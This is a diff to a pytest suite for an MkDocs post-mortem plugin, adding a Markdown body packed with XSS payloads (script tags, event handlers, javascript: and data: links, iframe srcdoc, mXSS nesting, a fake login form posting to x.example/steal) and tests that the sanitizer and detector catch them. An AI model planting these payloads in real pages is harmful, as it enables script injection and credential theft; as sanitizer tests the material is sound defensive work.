@@ -22,7 +22,7 @@ from pathlib import Path
 
 import pytest
 
-from .hostile import injected
+from .hostile import injected, unsafe_content
 
 pytestmark = pytest.mark.slow
 
@@ -47,7 +47,9 @@ ALLOWED_NAMES = ["_em_ a+b", "1. x", "a/b.c", "- t", "+_x_+", "javascript/alert"
 
 TICKETS = ["javascript:alert('XSS')", " JaVaScRiPt:alert('XSS')", "data:text/html,<b class=XSS>", f'https://x.example/"{BOLD}']
 
-#: Bodies are Markdown (raw HTML is the author's): benign markup whose attributes hold mentions and '>'.
+#: Bodies are Markdown whose raw HTML the plugin sanitizes (body_html: sanitized, the default). First
+#: benign markup whose attributes hold mentions and '>', then every way a body's HTML could run script,
+#: submit, redirect, embed or cover the page: none of it may reach a reader.
 BODY = """\
 ## What happened
 
@@ -56,6 +58,34 @@ Caused by INC-2025-0002, like INC-2025-0003 and INC-2025-0099.
 <abbr title="a > INC-2025-0002 <b class=XSS>">x</abbr> `INC-2025-0002` <kbd>INC-2025-0003</kbd>
 
 [see INC-2025-0002](https://x.example/INC-2025-0002 "INC-2025-0002 > y") ![INC-2025-0003](https://x.example/INC-2025-0003.png)
+
+## Heading <img src=x onerror=alert('XSS')> &lt;img src=x onerror=alert('XSS')&gt;
+
+## Labelled {: data-toc-label="<img src=x onerror=alert('XSS')>" onclick="alert('XSS')" }
+
+<script>alert('XSS')</script>
+<img src=x onerror=alert('XSS')> <XSS>x</XSS> <p xss="1">attribute</p>
+
+[a](javascript:alert(document.cookie)) [b]( JaVaScRiPt:alert(1)) [c](vbscript:msgbox(1))
+![d](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)
+<a href="javascript:alert('XSS')">e</a> <a href="&#106;avascript:alert('XSS')">f</a>
+<a href="data:text/html,<script>alert('XSS')</script>">g</a>
+[h](https://x.example/){: onclick="alert('XSS')" }
+
+<iframe srcdoc="<script>alert('XSS')</script>" src="https://x.example/"></iframe>
+<svg onload=alert('XSS')><a href="javascript:alert('XSS')"><text>t</text></a>
+<animate attributeName="href" to="javascript:alert('XSS')"/><use href="data:image/svg+xml,x"/></svg>
+<form action="https://x.example/steal"><input name="password"><button formaction="javascript:alert('XSS')">Log in</button></form>
+<meta http-equiv="refresh" content="0;url=https://x.example/"><base href="https://x.example/"><link rel="stylesheet" href="https://x.example/x.css">
+<style>body { display: none }</style>
+<object data="https://x.example/x.swf"></object><embed src="https://x.example/x.swf">
+<div style="position:fixed;inset:0;background:white" onmouseover="alert('XSS')">cover</div>
+<details open ontoggle=alert('XSS')><summary>s</summary>d</details>
+<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS')></style></mglyph></table></mtext></math>
+<noscript><p title="</noscript><img src=x onerror=alert('XSS')>"></p></noscript>
+<template><script>alert('XSS')</script></template>
+
+<div markdown="1" onclick="alert('XSS')">*md in html*</div>
 """
 
 
@@ -114,9 +144,9 @@ INVALID = {
     .replace("services: ", f"services: [{quoted(SVG)}] #"),
     # wrong types everywhere
     "inc-2025-0005": f"---\nid: INC-2025-0005\ntitle: [{quoted(BOLD)}]\ndate: yesterday\nseverity: P1\nstatus: draft\n"
-    f"summary: {{a: {quoted(SCRIPT)}}}\ntags: {quoted(IMG)}\n---\n\nBody INC-2025-0001.\n",
+    f"summary: {{a: {quoted(SCRIPT)}}}\ntags: {quoted(IMG)}\n---\n\nBody INC-2025-0001.\n\n{BODY}",
     # a front matter that does not parse: MkDocs would render it as Markdown
-    "inc-2025-0006": f"---\nid: INC-2025-0006\ntitle: {BOLD}\n  broken: [\nsummary: {SCRIPT}\n---\n\nBody.\n",
+    "inc-2025-0006": f"---\nid: INC-2025-0006\ntitle: {BOLD}\n  broken: [\nsummary: {SCRIPT}\n---\n\n{BODY}",
     # a front matter that never ends
     "inc-2025-0007": f"---\nid: INC-2025-0007\ntitle: {BOLD}\nsummary: {SCRIPT}\n\n# Heading {IMG}\n",
 }
@@ -177,8 +207,16 @@ def test_the_checker_finds_what_it_looks_for():
     """tests/hostile.py would see an injection: each of these is one."""
     for bad in (IMG, SCRIPT, BOLD, SVG, '<a href=" javascript:alert(1)">x</a>', '<p title="" onmouseover="x">'):
         assert injected(bad), bad
+    for bad in ("<a href='data:text/html,x'>", "<a href='VBScript:x'>", "<iframe srcdoc=x>", "<button formaction=x>"):
+        assert injected(bad), bad
     for fine in (html.escape(IMG), html.escape(SCRIPT), f'<meta content="{html.escape(BOLD)}">', "<a href='https://x'>x</a>"):
         assert not injected(fine), fine
+    forbidden = ("<iframe>", "<form>", "<meta http-equiv=refresh>", "<style>p{}</style>", "<object>", "<embed>")
+    for bad in (*forbidden, '<p style="position:fixed">'):
+        assert unsafe_content(f"<article>{bad}</article>"), bad
+        assert not unsafe_content(f"<head>{bad}</head><article></article>"), bad  # the theme's own
+    assert not unsafe_content('<article><td style="text-align: right;">1</td><td style="text-align:left">2</td></article>')
+    assert unsafe_content("<div>no article</div>")
 
 
 @pytest.mark.parametrize("mode", MODES)
@@ -188,6 +226,14 @@ def test_no_built_page_has_markup_from_a_document(sites: dict[str, Path], mode: 
     assert set(VALID if mode == "error" else INVALID) <= published  # every post-mortem is there to be checked
     found = {str(p.relative_to(sites[mode])): injected(p.read_text(encoding="utf-8")) for p in pages}
     assert not {page: what for page, what in found.items() if what}
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_no_post_mortem_page_has_a_body_element_that_runs_embeds_submits_or_restyles(sites: dict[str, Path], mode: str):
+    """script, iframe, object, embed, form, meta, base, link, style (element or position-like inline style)."""
+    pages = {name: sites[mode] / "postmortems" / name / "index.html" for name in (VALID if mode == "error" else INVALID)}
+    found = {name: unsafe_content(page.read_text(encoding="utf-8")) for name, page in pages.items()}
+    assert not {name: what for name, what in found.items() if what}
 
 
 @pytest.mark.parametrize("mode", MODES)
